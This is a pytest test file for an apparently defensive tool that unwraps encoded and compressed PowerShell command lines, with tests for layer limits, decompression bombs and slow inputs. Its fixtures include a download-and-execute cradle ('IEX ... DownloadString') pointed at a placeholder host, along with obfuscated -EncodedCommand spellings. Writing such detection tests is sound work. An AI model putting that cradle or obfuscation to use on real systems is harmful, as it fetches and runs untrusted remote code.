"""Encoded command lines are opened layer by layer, within limits."""

import base64
import gzip
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.psrp.layers import opened


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize("option", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "\u2013enc", "-eNcOd"])
def test_an_encoded_command(option: str) -> None:
    assert opened(f"powershell -nop {option} {encoded('Get-Date | Out-File x')}") == "Get-Date | Out-File x"


def test_layers_in_layers() -> None:
    inner = f"powershell -enc {encoded('whoami /all # the end')}"
    assert opened(f"powershell -enc {encoded(inner)}") == f"{inner}\nwhoami /all # the end"


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress, lambda data: zlib.compress(data)[2:-4], bytes])
def test_a_string_that_is_unpacked_by_the_script(pack: object) -> None:
    assert callable(pack)
    script = b"IEX (New-Object Net.WebClient).DownloadString('http://x')"
    text = f"[Convert]::FromBase64String('{base64.b64encode(pack(script)).decode()}')"
    assert opened(text) == script.decode()


@pytest.mark.parametrize("text", ["", "Get-Date", "powershell -e short", "-enc !!!notbase64!!!", "ls -en AAAAAAAAAAAAAAAAA"])
def test_nothing_is_encoded(text: str) -> None:
    assert opened(text) is None


def test_a_bomb_is_cut() -> None:
    bomb = base64.b64encode(zlib.compress(b"A" * (50 << 20))).decode()
    found = opened(f"FromBase64String('{bomb}')")
    assert found is None or len(found) <= 1 << 20


def test_many_layers_come_to_an_end() -> None:
    text = "whoami /groups /fo list"
    for _ in range(6):
        text = f"powershell -enc {encoded(text)}"
    found = opened(text)
    assert found is not None
    assert found.count("\n") == 3


WORDS = ("-enc ", "FromBase64String('", "QUFBQUFBQUFBQUFBQUFBQQ==", "')", "\uff0d", "A" * 40)


@given(st.one_of(st.text(max_size=200), st.lists(st.sampled_from(WORDS)).map("".join)))
def test_any_text_is_read(text: str) -> None:
    found = opened(text)
    assert found is None or found.encode()


@pytest.mark.parametrize("text", ["FromBase64String(" + " " * 200_000, "FromBase64String(('" * 20_000, " -enc " * 50_000, "-enc " + "A" * 500_000])
def test_hostile_texts_take_no_long_time(text: str) -> None:
    found = opened(text)
    assert found is None or len(found) < 500_000
